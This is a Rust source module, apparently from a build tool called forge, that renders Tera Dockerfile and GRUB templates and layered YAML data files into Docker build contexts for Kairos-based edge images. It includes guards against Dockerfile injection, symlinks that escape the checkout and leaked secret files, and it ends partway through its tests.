//! Templates (Tera), data files and overlays into build contexts: the default templates and
//! data files travel in the binary and `--templates DIR` replaces any of them; a build context
//! is a directory holding the rendered Dockerfile and the files it copies.
//!
//! What varies per OS, Kubernetes distribution and architecture is data: plain YAML files
//! looked up in layers ([`Layers`]), `os/<OS_DISTRIBUTION>/`, `k8s/<K8S_DISTRIBUTION>/`,
//! `arch/<ARCH>/`, then the top level, and read into typed values ([`DataFile::read`]).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::de::DeserializeOwned;
use tera::{Context, Tera};

use crate::config::Settings;
use crate::yaml;

/// The templates forge knows, with their built-in text, grouped by what they build: image
/// sources, images, the per-OS preparation of the base image, and the ISO.
const TEMPLATES: &[(&str, &str)] = &[
    ("sources.yaml", include_str!("../templates/sources.yaml")),
    (
        "profile-snippet.yaml",
        include_str!("../templates/profile-snippet.yaml"),
    ),
    (
        "images/os.Dockerfile",
        include_str!("../templates/images/os.Dockerfile"),
    ),
    (
        "images/base.Dockerfile",
        include_str!("../templates/images/base.Dockerfile"),
    ),
    (
        "images/provider.Dockerfile",
        include_str!("../templates/images/provider.Dockerfile"),
    ),
    (
        "images/installer.Dockerfile",
        include_str!("../templates/images/installer.Dockerfile"),
    ),
    (
        "os/ubuntu.Dockerfile",
        include_str!("../templates/os/ubuntu.Dockerfile"),
    ),
    (
        "os/opensuse-leap.Dockerfile",
        include_str!("../templates/os/opensuse-leap.Dockerfile"),
    ),
    (
        "os/sles.Dockerfile",
        include_str!("../templates/os/sles.Dockerfile"),
    ),
    (
        "os/rhel.Dockerfile",
        include_str!("../templates/os/rhel.Dockerfile"),
    ),
    ("iso/grub.cfg", include_str!("../templates/iso/grub.cfg")),
    (
        "iso/iso-tools.Dockerfile",
        include_str!("../templates/iso/iso-tools.Dockerfile"),
    ),
];

/// The data files forge knows, with their built-in text, by their path in a layer: the
/// Kubernetes distributions' providers, the OSes' Kairos base images, the architectures' boot
/// facts and UEFI chains, and the defaults.
const DATA: &[(&str, &str)] = &[
    ("provider.yaml", include_str!("../templates/provider.yaml")),
    (
        "k8s/k3s/provider.yaml",
        include_str!("../templates/k8s/k3s/provider.yaml"),
    ),
    (
        "k8s/rke2/provider.yaml",
        include_str!("../templates/k8s/rke2/provider.yaml"),
    ),
    (
        "k8s/nodeadm/provider.yaml",
        include_str!("../templates/k8s/nodeadm/provider.yaml"),
    ),
    (
        "k8s/canonical/provider.yaml",
        include_str!("../templates/k8s/canonical/provider.yaml"),
    ),
    (
        "os/ubuntu/base-image.yaml",
        include_str!("../templates/os/ubuntu/base-image.yaml"),
    ),
    (
        "os/opensuse-leap/base-image.yaml",
        include_str!("../templates/os/opensuse-leap/base-image.yaml"),
    ),
    (
        "arch/amd64/boot.yaml",
        include_str!("../templates/arch/amd64/boot.yaml"),
    ),
    (
        "arch/amd64/efi.yaml",
        include_str!("../templates/arch/amd64/efi.yaml"),
    ),
    (
        "arch/arm64/boot.yaml",
        include_str!("../templates/arch/arm64/boot.yaml"),
    ),
    (
        "arch/arm64/efi.yaml",
        include_str!("../templates/arch/arm64/efi.yaml"),
    ),
    ("vendors.yaml", include_str!("../templates/vendors.yaml")),
];

/// Files a `--templates` directory may hold from an earlier forge, which forge reads elsewhere
/// now: `(old path, where it goes)`.
const MOVED: &[(&str, &str)] = &[(
    "iso/efi.yaml",
    "arch/<ARCH>/efi.yaml, one per architecture (the vendors' ESP directories went to vendors.yaml)",
)];

#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    #[error("template `{name}`: {detail}")]
    Template { name: String, detail: String },
    #[error("cannot read `{path}`: {source}")]
    Read {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("template `{name}` rendered {found} instructions where it has {expected} with plain values: a value added or joined build steps")]
    Injected {
        name: String,
        expected: usize,
        found: usize,
    },
    #[error("cannot write the build context `{path}`: {source}")]
    Write {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("`{link}` is a symbolic link to `{target}`, outside the checkout: an image or an ISO made from the checkout must not carry the build machine's files; put the file itself in the overlay, or make the link point inside the checkout (relative, e.g. `../lib/x`)")]
    LinkOutside { link: PathBuf, target: PathBuf },
    #[error("`{path}` is no longer read: move it to {now} in the same directory")]
    Moved { path: PathBuf, now: &'static str },
    #[error("no data file {name} for this build: none of {} exists; add one to the --templates directory (templates/README.md describes it)", searched.join(", "))]
    MissingData { name: String, searched: Vec<String> },
    #[error("{file}:{line}:{column}: {detail}; correct it as templates/README.md describes")]
    Data {
        file: String,
        line: usize,
        column: usize,
        detail: String,
    },
}

/// Where the images of a build come from: `sources.yaml` rendered, by key (`base_image`,
/// `provider_image`, `agent_image`, `third_party_image`, `alpine_image`, `luet_repo`,
/// `k8s_package`, `k8s_image`, ...). `{version}` stands for the Kubernetes version.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Sources(pub BTreeMap<String, String>);

impl Sources {
    /// A source, empty when the template leaves it out.
    pub fn get(&self, key: &str) -> &str {
        self.0.get(key).map_or("", String::as_str)
    }
}

/// The layers a data file is looked up in, each a directory below the templates: the OS
/// (`os/<os>/`), the Kubernetes distribution (`k8s/<dist>/`), the architecture
/// (`arch/<arch>/`); an empty one is left out, and the top level comes last.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Layers {
    pub os: String,
    pub dist: String,
    pub arch: String,
}

impl Layers {
    /// The layers of a build: OS_DISTRIBUTION, K8S_DISTRIBUTION and ARCH.
    pub fn of(settings: &Settings) -> Layers {
        Layers {
            os: settings.os_distribution.to_string(),
            dist: settings
                .k8s_distribution
                .map(|d| d.to_string())
                .unwrap_or_default(),
            arch: settings.arch.to_string(),
        }
    }

    /// The architecture's layer alone (for what is read without settings: an ISO).
    pub fn arch(arch: &str) -> Layers {
        Layers {
            arch: arch.to_string(),
            ..Layers::default()
        }
    }

    /// Where `name` is looked for, most specific first: `os/<os>/NAME`, `k8s/<dist>/NAME`,
    /// `arch/<arch>/NAME`, `NAME`. A layer whose value is not a plain name (`..`, a `/`) is
    /// left out, so that no lookup leaves the templates.
    pub fn paths(&self, name: &str) -> Vec<String> {
        let plain =
            |v: &str| !v.is_empty() && v != "." && v != ".." && !v.contains(['/', '\\', '\0']);
        [("os", &self.os), ("k8s", &self.dist), ("arch", &self.arch)]
            .into_iter()
            .filter(|(_, value)| plain(value))
            .map(|(layer, value)| format!("{layer}/{value}/{name}"))
            .chain([name.to_string()])
            .collect()
    }
}

/// A data file found in a layer: plain YAML (no template syntax), read with
/// [`DataFile::read`].
#[derive(Debug, Clone)]
pub struct DataFile {
    /// Its path in the layers (`arch/amd64/boot.yaml`).
    pub path: String,
    /// Where it was read, for messages: the file of the `--templates` directory, or
    /// `templates/PATH` for forge's own.
    pub origin: String,
    text: String,
}

impl DataFile {
    /// The file read into `T`; a problem names the file, the line and column, and the key.
    pub fn read<T: DeserializeOwned>(&self) -> Result<T, RenderError> {
        let doc = self.parse()?;
        yaml::deserialize(&doc.root).map_err(|e| self.problem(e.pos, e.to_string()))
    }

    /// A problem with the value of the top-level `key` (found by its position).
    pub fn invalid(&self, key: &str, detail: &str) -> RenderError {
        let pos = self
            .parse()
            .ok()
            .and_then(|doc| doc.root.get(key).map(|value| value.pos))
            .unwrap_or_default();
        self.problem(pos, format!("{key}: {detail}"))
    }

    fn parse(&self) -> Result<yaml::Document, RenderError> {
        let doc = yaml::parse(&self.text).map_err(|e| self.problem(e.pos, e.message))?;
        match doc.duplicates.first() {
            Some(dup) => Err(self.problem(
                dup.pos,
                format!(
                    "{}: defined twice (first at line {}); keep one",
                    dup.path, dup.first.line
                ),
            )),
            None => Ok(doc),
        }
    }

    fn problem(&self, pos: crate::diagnostic::Pos, detail: String) -> RenderError {
        RenderError::Data {
            file: self.origin.clone(),
            line: pos.line,
            column: pos.column,
            detail,
        }
    }
}

/// The loaded templates, and where data files are looked for.
pub struct Templates {
    tera: Tera,
    /// The `--templates` directory.
    dir: Option<PathBuf>,
}

fn tera_error(name: &str, e: tera::Error) -> RenderError {
    let mut detail = e.to_string();
    let mut source = std::error::Error::source(&e);
    while let Some(s) = source {
        detail.push_str(": ");
        detail.push_str(&s.to_string());
        source = s.source();
    }
    RenderError::Template {
        name: name.to_string(),
        detail,
    }
}

impl Templates {
    /// The built-in templates, each replaced by `DIR/NAME` when that file exists; data files
    /// are read from `DIR` when looked up ([`Templates::find`]). A file of `DIR` forge reads
    /// elsewhere now is refused, with where it goes.
    pub fn load(dir: Option<&Path>) -> Result<Templates, RenderError> {
        if let Some((path, now)) = dir.and_then(|d| {
            MOVED
                .iter()
                .map(|(old, now)| (d.join(old), *now))
                .find(|(path, _)| path.is_file())
        }) {
            return Err(RenderError::Moved { path, now });
        }
        let mut tera = Tera::default();
        tera.autoescape_on(vec![]);
        tera.register_filter("grub_quote", grub_quote_filter);
        for (name, builtin) in TEMPLATES {
            let text = match dir.map(|d| d.join(name)).filter(|p| p.is_file()) {
                Some(path) => crate::limits::open(&path)
                    .and_then(std::io::read_to_string)
                    .map_err(|source| RenderError::Read { path, source })?,
                None => builtin.to_string(),
            };
            tera.add_raw_template(name, &text)
                .map_err(|e| tera_error(name, e))?;
        }
        Ok(Templates {
            tera,
            dir: dir.map(Path::to_path_buf),
        })
    }

    /// The data file `name` of the most specific layer that has one ([`Layers::paths`]); at
    /// each layer the `--templates` directory's file comes before forge's own.
    pub fn find(&self, name: &str, layers: &Layers) -> Result<Option<DataFile>, RenderError> {
        for path in layers.paths(name) {
            if let Some(file) = self.dir.as_ref().map(|d| d.join(&path)) {
                if file.is_file() {
                    let text = crate::limits::open(&file)
                        .and_then(std::io::read_to_string)
                        .map_err(|source| RenderError::Read {
                            path: file.clone(),
                            source,
                        })?;
                    return Ok(Some(DataFile {
                        path,
                        origin: file.display().to_string(),
                        text,
                    }));
                }
            }
            if let Some((_, text)) = DATA.iter().find(|(p, _)| *p == path) {
                return Ok(Some(DataFile {
                    origin: format!("templates/{path}"),
                    path,
                    text: text.to_string(),
                }));
            }
        }
        Ok(None)
    }

    /// The data file `name` of the most specific layer ([`Templates::find`]); an error when
    /// no layer has one.
    pub fn required(&self, name: &str, layers: &Layers) -> Result<DataFile, RenderError> {
        self.find(name, layers)?
            .ok_or_else(|| RenderError::MissingData {
                name: name.to_string(),
                searched: layers.paths(name),
            })
    }

    /// The data file `name` read into `T` ([`Templates::required`]).
    pub fn data<T: DeserializeOwned>(&self, name: &str, layers: &Layers) -> Result<T, RenderError> {
        self.required(name, layers)?.read()
    }

    /// The architectures with boot facts (`arch/<ARCH>/boot.yaml`), forge's own and the
    /// `--templates` directory's, by name.
    pub fn arches(&self) -> Vec<String> {
        let builtin = DATA.iter().filter_map(|(path, _)| {
            path.strip_prefix("arch/")?
                .strip_suffix("/boot.yaml")
                .map(str::to_string)
        });
        let own = self
            .dir
            .as_ref()
            .and_then(|d| std::fs::read_dir(d.join("arch")).ok())
            .into_iter()
            .flatten()
            .flatten()
            .filter(|entry| entry.path().join("boot.yaml").is_file())
            .filter_map(|entry| entry.file_name().into_string().ok());
        let mut arches: Vec<String> = builtin.chain(own).collect();
        arches.sort();
        arches.dedup();
        arches
    }

    pub fn render(&self, name: &str, context: &Context) -> Result<String, RenderError> {
        self.tera
            .render(name, context)
            .map_err(|e| tera_error(name, e))
    }

    /// Render a Dockerfile template and check that the values did not change its instructions:
    /// it must have as many as it has when every value is made harmless (line breaks, control
    /// characters and backslashes, which continue lines, replaced).
    pub fn render_dockerfile(&self, name: &str, context: &Context) -> Result<String, RenderError> {
        let rendered = self.render(name, context)?;
        let plain = Context::from_value(neutralize(context.clone().into_json()))
            .expect("a context stays an object");
        let expected = instructions(&self.render(name, &plain)?);
        let found = instructions(&rendered);
        if found != expected {
            return Err(RenderError::Injected {
                name: name.to_string(),
                expected,
                found,
            });
        }
        Ok(rendered)
    }

    /// `sources.yaml` rendered with the settings, the distribution's provider
    /// (`provider.yaml`) and the OS's Kairos base image (`base-image.yaml`, when it has one).
    pub fn sources(&self, settings: &Settings) -> Result<Sources, RenderError> {
        let layers = Layers::of(settings);
        let mut ctx = context(settings);
        ctx.insert("provider", &self.provider(settings, &layers)?);
        let base = match self.find("base-image.yaml", &layers)? {
            Some(file) => Some(file.read::<BaseImage>()?.at(settings)),
            None => None,
        };
        ctx.insert("base", &base);
        let name = "sources.yaml";
        let doc = yaml::parse(&self.render(name, &ctx)?).map_err(|e| RenderError::Template {
            name: name.into(),
            detail: format!("line {}: {}", e.pos.line, e.message),
        })?;
        Ok(Sources(
            doc.root
                .entries()
                .iter()
                .filter_map(|e| Some((e.key.clone(), e.value.as_str()?.to_string())))
                .collect(),
        ))
    }

    /// The Kubernetes distribution's provider (`provider.yaml`), its settings' values read.
    fn provider(&self, settings: &Settings, layers: &Layers) -> Result<Provider, RenderError> {
        let file = self.required("provider.yaml", layers)?;
        let data: ProviderData = file.read()?;
        let value = |key: &str, setting: &str| match settings.text(setting) {
            Some(value) => Ok(value),
            None => Err(file.invalid(
                key,
                &format!(
                    "`{}` is not a setting (`forge config show` lists them)",
                    crate::limits::clip(setting)
                ),
            )),
        };
        Ok(Provider {
            version: value("version_setting", &data.version_setting)?,
            package_suffix: data
                .package_suffix_setting
                .as_deref()
                .map(|s| value("package_suffix_setting", s))
                .transpose()?,
            name: data.provider,
        })
    }
}

/// A Kubernetes distribution's Kairos provider, as `provider.yaml` says.
#[derive(Debug, serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct ProviderData {
    /// The provider image's name: `provider-<provider>`.
    provider: String,
    /// The setting holding the provider image's tag.
    version_setting: String,
    /// The setting holding the suffix of the distribution's luet package versions.
    package_suffix_setting: Option<String>,
}

/// A provider as `sources.yaml` sees it (`provider`): the settings' values read.
#[derive(Debug, serde::Serialize)]
struct Provider {
    name: String,
    version: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    package_suffix: Option<String>,
}

/// An OS's Kairos base image, as `base-image.yaml` says: `<repository>:<version>-core-...`,
/// `<version>` being `version_prefix` and OS_VERSION, or what `versions` writes for it.
#[derive(Debug, serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct BaseImage {
    repository: String,
    #[serde(default)]
    version_prefix: String,
    #[serde(default)]
    versions: BTreeMap<String, String>,
    /// The systemd of each OS release's image, for plans made offline.
    #[serde(default)]
    systemd: BTreeMap<String, u32>,
}

/// A base image as `sources.yaml` sees it (`base`).
#[derive(Debug, serde::Serialize)]
struct Base {
    repository: String,
    version: String,
    systemd: Option<u32>,
}

impl BaseImage {
    /// The image for the settings' OS_VERSION.
    fn at(self, settings: &Settings) -> Base {
        let os_version = settings.os_version.as_str();
        let version = self
            .versions
            .get(os_version)
            .map_or(os_version, String::as_str);
        Base {
            version: format!("{}{version}", self.version_prefix),
            systemd: self.systemd.get(version).copied(),
            repository: self.repository,
        }
    }
}

/// A context's strings with what could add or join Dockerfile lines replaced by `_`. Values
/// that are rendered templates themselves (`user_dockerfile`) keep their lines.
fn neutralize(value: serde_json::Value) -> serde_json::Value {
    use serde_json::Value;
    match value {
        Value::String(s) => Value::String(s.replace(|c: char| c.is_control() || c == '\\', "_")),
        Value::Object(map) => Value::Object(
            map.into_iter()
                .map(|(k, v)| {
                    let v = if VERBATIM.contains(&k.as_str()) {
                        v
                    } else {
                        neutralize(v)
                    };
                    (k, v)
                })
                .collect(),
        ),
        Value::Array(items) => Value::Array(items.into_iter().map(neutralize).collect()),
        other => other,
    }
}

/// Context values that are multi-line by design, checked when they were rendered.
const VERBATIM: &[&str] = &["os_preparation"];

/// The number of instructions of a Dockerfile: logical lines (a trailing `\` continues one)
/// that are neither blank nor comments.
pub fn instructions(dockerfile: &str) -> usize {
    let mut count = 0;
    let mut continued = false;
    for line in dockerfile.lines() {
        let trimmed = line.trim();
        if !continued && !trimmed.is_empty() && !trimmed.starts_with('#') {
            count += 1;
        }
        if !(continued && (trimmed.is_empty() || trimmed.starts_with('#'))) {
            continued = trimmed.ends_with('\\');
        }
    }
    count
}

/// GRUB script quoting: the value as one single-quoted word (GRUB, like a POSIX shell, takes
/// everything between single quotes literally; a single quote is written `'\''`). Control
/// characters cannot be quoted and are refused.
pub fn grub_quote(value: &str) -> Result<String, String> {
    if let Some(c) = value.chars().find(|c| c.is_control()) {
        return Err(format!(
            "a control character (U+{:04X}) cannot go into grub.cfg",
            c as u32
        ));
    }
    Ok(format!("'{}'", value.replace('\'', "'\\''")))
}

fn grub_quote_filter(
    value: &tera::Value,
    _: &std::collections::HashMap<String, tera::Value>,
) -> tera::Result<tera::Value> {
    let text = match value {
        tera::Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    grub_quote(&text)
        .map(tera::Value::String)
        .map_err(tera::Error::msg)
}

/// Every setting, by its lower-case name, as template variables: switches are booleans, unset
/// values null (rendered empty), files their resolved paths.
pub fn context(settings: &Settings) -> Context {
    Context::from_serialize(settings).expect("settings serialize as an object")
}

/// What a build context leaves out besides its `.dockerignore`: paths relative to the
/// context's root (forge's output directory, CanvOS's names for the checkout's secrets), and
/// secret files (the user-data) by device and inode, however they are named: through `..`, a
/// symlinked checkout, a link to the file or a hard link, the file itself never goes in.
#[derive(Debug, Clone, Default)]
pub struct Exclude {
    paths: Vec<PathBuf>,
    files: Vec<(u64, u64)>,
}

/// `path` made absolute with `.` and `..` resolved by name, as the shell's `cd` does.
fn lexical(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for part in std::path::absolute(path)
        .unwrap_or_else(|_| path.to_path_buf())
        .components()
    {
        match part {
            std::path::Component::ParentDir => {
                out.pop();
            }
            std::path::Component::CurDir => {}
            part => out.push(part),
        }
    }
    out
}

impl Exclude {
    /// Leave the files `secrets` out, wherever they are.
    pub fn files(secrets: &[&Path]) -> Exclude {
        let mut exclude = Exclude::default();
        for path in secrets {
            if let Some(meta) = std::fs::metadata(path).ok().filter(|m| m.is_file()) {
                use std::os::unix::fs::MetadataExt as _;
                exclude.files.push((meta.dev(), meta.ino()));
            }
        }
        exclude
    }

    /// Leave out of the context of `root`: `given` (paths as given on the command line:
    /// below `root` by name, or by what they resolve to), the secret files among them
    /// (`secrets`, by identity too), and `named`, paths relative to `root`.
    pub fn new(root: &Path, given: &[&Path], secrets: &[&Path], named: &[&str]) -> Exclude {
        let named: Vec<PathBuf> = named.iter().map(|n| root.join(n)).collect();
        let mut exclude = Exclude::files(
            &secrets
                .iter()
                .copied()
                .chain(named.iter().map(PathBuf::as_path))
                .collect::<Vec<_>>(),
        );
        let roots = [Some(lexical(root)), std::fs::canonicalize(root).ok()];
        for path in given
            .iter()
            .copied()
            .chain(secrets.iter().copied())
            .chain(named.iter().map(PathBuf::as_path))
        {
            let spellings = [Some(lexical(path)), std::fs::canonicalize(path).ok()];
            for (root, path) in roots
                .iter()
                .flatten()
                .flat_map(|r| spellings.iter().flatten().map(move |p| (r, p)))
            {
                if let Ok(rel) = path.strip_prefix(root) {
                    if !rel.as_os_str().is_empty() && !exclude.paths.iter().any(|p| p == rel) {
                        exclude.paths.push(rel.to_path_buf());
                    }
                }
            }
        }
        exclude
    }

    /// The paths left out, relative to the context's root.
    pub fn paths(&self) -> &[PathBuf] {
        &self.paths
    }

    /// Whether `meta` (of an entry not followed if it is a link) is one of the secret files.
    pub fn is_secret(&self, meta: &std::fs::Metadata) -> bool {
        use std::os::unix::fs::MetadataExt as _;
        meta.is_file() && self.files.contains(&(meta.dev(), meta.ino()))
    }
}

/// Refuse the overlay directory `overlays` when it, or a symbolic link below it (in `files/`,
/// `files-iso/`, anywhere), resolves outside the checkout: an untrusted change to a checkout
/// must not put the build machine's files into an image or onto an ISO. Links that stay
/// inside are kept as links, as Docker's `COPY` keeps them. An overlay directory named
/// outside the checkout (`--overlays DIR`) is its own boundary.
pub fn check_overlay_links(overlays: &Path, checkout: &Path) -> Result<(), RenderError> {
    let read = |path: &Path| {
        let path = path.to_path_buf();
        move |source| RenderError::Read { path, source }
    };
    let resolved = |path: &Path| std::fs::canonicalize(path).unwrap_or_else(|_| lexical(path));
    let named_inside = lexical(overlays).starts_with(lexical(checkout));
    let boundary = resolved(if named_inside { checkout } else { overlays });
    let outside = |link: &Path, target: PathBuf| RenderError::LinkOutside {
        link: link.to_path_buf(),
        target,
    };
    let root = resolved(overlays);
    if !root.starts_with(&boundary) {
        return Err(outside(overlays, root));
    }
    for entry in walkdir::WalkDir::new(overlays).follow_links(false) {
        let entry = entry.map_err(|e| RenderError::Read {
            path: overlays.to_path_buf(),
            source: e.into(),
        })?;
        if !entry.path_is_symlink() || entry.depth() == 0 {
            continue;
        }
        let target = std::fs::read_link(entry.path()).map_err(read(entry.path()))?;
        let place = entry.path().parent().map(resolved).unwrap_or_default();
        let lands = resolved(&place.join(&target));
        if !lands.starts_with(&boundary) {
            return Err(outside(entry.path(), target));
        }
    }
    Ok(())
}

/// The `.dockerignore` of a context directory and an [`Exclude`] as a predicate on an entry's
/// relative path and metadata (last match wins; `!` re-includes; a pattern also covers
/// everything below a matching directory; what `Exclude` leaves out stays out).
pub type Ignore = Box<dyn Fn(&Path, &std::fs::Metadata) -> bool + Send + Sync>;

pub fn dockerignore(dir: &Path, exclude: &Exclude) -> std::io::Result<Ignore> {
    let exclude = exclude.clone();
    let text =
        match crate::limits::open(&dir.join(".dockerignore")).and_then(std::io::read_to_string) {
            Ok(text) => text,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
            Err(e) => return Err(e),
        };
    let mut rules: Vec<(globset::GlobMatcher, bool)> = Vec::new();
    for line in text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
    {
        let (pattern, include) = match line.strip_prefix('!') {
            Some(p) => (p.trim(), true),
            None => (line, false),
        };
        let pattern = pattern.trim_start_matches("./").trim_start_matches('/');
        let glob = globset::GlobBuilder::new(pattern)
            .literal_separator(true)
            .build()
            .map_err(std::io::Error::other)?;
        rules.push((glob.compile_matcher(), include));
    }
    Ok(Box::new(move |path: &Path, meta: &std::fs::Metadata| {
        if exclude.paths.iter().any(|e| path.starts_with(e)) || exclude.is_secret(meta) {
            return true;
        }
        let mut excluded = false;
        for (matcher, include) in &rules {
            if path
                .ancestors()
                .any(|a| !a.as_os_str().is_empty() && matcher.is_match(a))
            {
                excluded = !include;
            }
        }
        excluded
    }))
}

/// Write a build context: the Dockerfile and each `(path in context, source file or
/// directory)`, without the secret files of `exclude`.
pub fn write_context(
    dir: &Path,
    dockerfile: &str,
    files: &[(String, PathBuf)],
    exclude: &Exclude,
) -> Result<(), RenderError> {
    let write_err = |path: &Path| {
        let path = path.to_path_buf();
        move |source| RenderError::Write { path, source }
    };
    std::fs::create_dir_all(dir).map_err(write_err(dir))?;
    std::fs::write(dir.join("Dockerfile"), dockerfile).map_err(write_err(dir))?;
    for (dest, src) in files {
        let target = dir.join(dest);
        if src.is_dir() {
            for entry in walkdir::WalkDir::new(src).follow_links(false) {
                let entry = entry.map_err(|e| RenderError::Read {
                    path: src.clone(),
                    source: e.into(),
                })?;
                let rel = entry
                    .path()
                    .strip_prefix(src)
                    .expect("walkdir stays below its root");
                let out = target.join(rel);
                let file_type = entry.file_type();
                let meta = entry.metadata().map_err(|e| RenderError::Read {
                    path: entry.path().to_path_buf(),
                    source: e.into(),
                })?;
                if exclude.is_secret(&meta) {
                    continue;
                }
                if file_type.is_dir() {
                    // With its own mode: COPY gives existing directories in the image the
                    // mode of the context's (forge's umask must not make /etc 0700).
                    std::fs::create_dir_all(&out).map_err(write_err(&out))?;
                    std::fs::set_permissions(&out, meta.permissions()).map_err(write_err(&out))?;
                } else if file_type.is_symlink() {
                    let link =
                        std::fs::read_link(entry.path()).map_err(|source| RenderError::Read {
                            path: entry.path().to_path_buf(),
                            source,
                        })?;
                    std::os::unix::fs::symlink(link, &out).map_err(write_err(&out))?;
                } else {
                    crate::limits::copy(entry.path(), &out).map_err(|source| {
                        RenderError::Read {
                            path: entry.path().to_path_buf(),
                            source,
                        }
                    })?;
                }
            }
        } else {
            let read = |source| RenderError::Read {
                path: src.clone(),
                source,
            };
            if exclude.is_secret(&std::fs::metadata(src).map_err(read)?) {
                continue;
            }
            if let Some(parent) = target.parent() {
                std::fs::create_dir_all(parent).map_err(write_err(parent))?;
            }
            crate::limits::copy(src, &target).map_err(|source| RenderError::Read {
                path: src.clone(),
                source,
            })?;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{resolve, Inputs};

    fn sources(sets: &[(&str, &str)]) -> Sources {
        let settings = resolve(&Inputs {
            sets: sets
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            ..Inputs::default()
        })
        .settings;
        Templates::load(None).unwrap().sources(&settings).unwrap()
    }

    #[test]
    fn sources_default_to_the_canvos_images_and_settings_override_them() {
        let s = sources(&[
            ("K8S_DISTRIBUTION", "k3s"),
            ("AGENT_IMAGE", "local/agent:1"),
        ]);
        assert_eq!(
            s.get("base_image"),
            "us-docker.pkg.dev/palette-images/edge/kairos-ubuntu:22.04-core-amd64-generic-v0.17.1"
        );
        assert_eq!(
            s.get("provider_image"),
            "us-docker.pkg.dev/palette-images/edge/kairos-io/provider-k3s:v4.10.3"
        );
        assert_eq!(s.get("agent_image"), "local/agent:1");
        assert_eq!(
            s.get("third_party_image"),
            "us-docker.pkg.dev/palette-images/third-party/spectro-third-party:4.8"
        );
        assert_eq!(
            s.get("alpine_image"),
            "us-docker.pkg.dev/palette-images/edge/canvos/alpine:3.20"
        );
        assert_eq!(
            s.get("luet_repo"),
            "us-docker.pkg.dev/palette-images/edge/luet-repo-amd"
        );
        assert_eq!(s.get("k8s_package"), "k8s/k3s@{version}-k3s1");
        assert_eq!(s.get("k8s_image"), "");
    }

    #[test]
    fn releases_up_to_v4_7_11_keep_a_luet_folder_per_version_and_kubeadms_runtime_in_it() {
        let s = sources(&[
            ("K8S_DISTRIBUTION", "kubeadm-fips"),
            ("ARCH", "arm64"),
            ("SPECTRO_LUET_VERSION", "v4.6.19"),
        ]);
        assert_eq!(
            s.get("luet_repo"),
            "us-docker.pkg.dev/palette-images/edge/luet-repo-arm/v4.6.19"
        );
        assert_eq!(
            s.get("runtime_package"),
            "container-runtime/containerd-fips"
        );
        let k3s = sources(&[
            ("K8S_DISTRIBUTION", "k3s"),
            ("SPECTRO_LUET_VERSION", "v4.6.19"),
        ]);
        assert_eq!(k3s.get("runtime_package"), "");
        assert_eq!(
            sources(&[("K8S_DISTRIBUTION", "kubeadm")]).get("runtime_package"),
            ""
        );
    }

    #[test]
    fn each_distribution_takes_its_provider_and_each_os_its_base_image() {
        let provider = |dist: &str| {
            let s = sources(&[("K8S_DISTRIBUTION", dist)]);
            let image = s
                .get("provider_image")
                .rsplit('/')
                .next()
                .unwrap()
                .to_string();
            (image, s.get("k8s_package").to_string())
        };
        let expect = |image: &str, package: &str| (image.to_string(), package.to_string());
        assert_eq!(
            provider("k3s"),
            expect("provider-k3s:v4.10.3", "k8s/k3s@{version}-k3s1")
        );
        assert_eq!(
            provider("rke2"),
            expect("provider-rke2:v4.10.3", "k8s/rke2@{version}-rke2r1")
        );
        assert_eq!(
            provider("nodeadm"),
            expect("provider-nodeadm:v4.9.3", "k8s/nodeadm@{version}")
        );
        assert_eq!(
            provider("canonical"),
            expect("provider-canonical:v4.10.1", "k8s/canonical@{version}")
        );
        assert_eq!(
            provider("kubeadm"),
            expect("provider-kubeadm:v4.10.1", "k8s/kubeadm@{version}")
        );
        assert_eq!(
            provider("kubeadm-fips"),
            expect("provider-kubeadm:v4.10.1", "k8s/kubeadm-fips@{version}"),
            "kubeadm-fips has no provider.yaml of its own: the default, kubeadm's"
        );
        let k3s = sources(&[("K8S_DISTRIBUTION", "k3s"), ("K3S_FLAVOR_TAG", "")]);
        assert_eq!(
            k3s.get("k8s_package"),
            "k8s/k3s@{version}-",
            "named, if empty"
        );

        let base = |os: &str, version: &str| {
            let s = sources(&[("OS_DISTRIBUTION", os), ("OS_VERSION", version)]);
            s.get("base_image").to_string()
        };
        let kairos = "us-docker.pkg.dev/palette-images/edge";
        assert_eq!(
            base("ubuntu", "20"),
            format!("{kairos}/kairos-ubuntu:20.04-core-amd64-generic-v0.17.1")
        );
        assert_eq!(
            base("ubuntu", "24.04"),
            format!("{kairos}/kairos-ubuntu:24.04-core-amd64-generic-v0.17.1")
        );
        assert_eq!(
            base("opensuse-leap", "15.6"),
            format!("{kairos}/kairos-opensuse:leap-15.6-core-amd64-generic-v0.17.1")
        );
        assert_eq!(base("rhel", "9"), "", "rhel needs BASE_IMAGE");
        assert_eq!(base("sles", "15.6"), "", "sles needs BASE_IMAGE");
    }

    /// A `--templates` directory holding `files` (path, text).
    fn templates_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        for (path, text) in files {
            let path = dir.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        dir
    }

    fn layers() -> Layers {
        Layers {
            os: "ubuntu".into(),
            dist: "k3s".into(),
            arch: "amd64".into(),
        }
    }

    #[test]
    fn a_data_file_is_taken_from_the_most_specific_layer_that_has_one() {
        let mut files = vec![
            ("os/ubuntu/facts.yaml", "layer: os\n"),
            ("k8s/k3s/facts.yaml", "layer: k8s\n"),
            ("arch/amd64/facts.yaml", "layer: arch\n"),
            ("facts.yaml", "layer: default\n"),
        ];
        for expected in ["os", "k8s", "arch", "default"] {
            let dir = templates_dir(&files);
            let templates = Templates::load(Some(dir.path())).unwrap();
            let found = templates.required("facts.yaml", &layers()).unwrap();
            let value: BTreeMap<String, String> = found.read().unwrap();
            assert_eq!(value["layer"], expected, "{}", found.path);
            files.remove(0);
        }
        assert_eq!(
            layers().paths("facts.yaml"),
